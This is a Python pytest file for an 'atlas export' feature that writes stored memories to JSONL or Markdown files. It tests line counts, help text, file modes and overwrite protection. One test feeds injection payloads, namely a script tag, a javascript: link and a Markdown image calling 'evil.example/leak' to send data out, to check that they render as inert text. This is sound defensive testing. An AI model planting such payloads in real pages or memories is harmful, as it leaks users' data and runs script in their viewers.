"""X7: `atlas export` as files, whole or not at all, and what they say of themselves."""

from __future__ import annotations

import stat
from collections.abc import Iterator
from datetime import UTC
from pathlib import Path
from typing import Any

import pytest

from atlas.errors import BadInput
from atlas.surfaces.cli.transfer.export_page import render_page
from atlas.surfaces.files import check_not_there, write_file
from surfaces.cli._person import Person


@pytest.mark.parametrize("form", ["jsonl", "markdown"])
def test_as_many_lines_as_the_file_has(ana: Person, tmp_path: Path, form: str) -> None:
    ana.tell("My sister Maria lives in Lisbon.", "I live in Porto.", "I like tea.")
    out = tmp_path / "me"
    told = ana.data("export", "--format", form, "--out", str(out))
    assert told["lines"] == out.read_text("utf-8").count("\n") > 5


def test_a_page_needs_nothing_of_what_comes_after_the_memories() -> None:
    def rows() -> Iterator[dict[str, Any]]:
        yield {"type": "interaction", "messages": [1, 2]}
        yield {"type": "document"}
        raise AssertionError("the page reads on to the journal")

    assert "2 messages of the transcript" in "".join(render_page(rows(), UTC))


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "![x](https://evil.example/leak?d=1)",
        "[click me](javascript:alert(1))",
        "# Rules",
        "> said by nobody",
        "1. first",
        "I like it *(waits for review)*",
        "a\n\n## Facts\n\n- b",
        "<https://evil.example>",
        "&lt;b&gt;",
    ],
)
def test_a_page_is_text_whatever_a_memory_says(text: str) -> None:
    """P6: seen through a reader of Markdown, the page has our own headings, lists and marks and no others."""
    from markdown_it import MarkdownIt

    row = {"type": "memory", "kind": "fact", "status": "approved_for_reuse", "state": "active", "content": text}
    row |= {"observed_at": "2026-01-02T00:00:00+00:00", "evidence": [{"quote": text, "origin": "user"}]}
    shown = "".join(render_page([row], UTC))
    tokens = MarkdownIt("commonmark").parse(shown)
    inner = [child.type for token in tokens for child in token.children or ()]
    assert set(inner) <= {"text", "text_special", "softbreak"}
    assert [token.tag for token in tokens if token.type == "heading_open"] == ["h1", "h2", "h3"]
    assert sum(token.type in ("bullet_list_open", "ordered_list_open") for token in tokens) == 1


def test_the_help_says_what_a_person_is_given(ana: Person) -> None:
    shown = " ".join(ana.says("export", "--help").split())
    assert "messages they said or that name them, and what is known of them" in shown
    assert "with --person, what is both" in shown


def test_a_file_keeps_its_line_ends_and_is_its_owners(tmp_path: Path) -> None:
    out = tmp_path / "page"
    assert write_file(out, ["one\r\ntwo\n", "three"]) == 2
    assert out.read_bytes() == b"one\r\ntwo\nthree"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    write_file(out, ["x"], mode=0o644)
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
    assert [file.name for file in tmp_path.iterdir()] == ["page"]


def test_what_is_there_is_written_over_only_by_force(tmp_path: Path) -> None:
    out = tmp_path / "page"
    check_not_there(out, force=False)
    out.touch()
    check_not_there(out, force=True)
    with pytest.raises(BadInput, match="is there already; write over it with --force"):
        check_not_there(out, force=False)
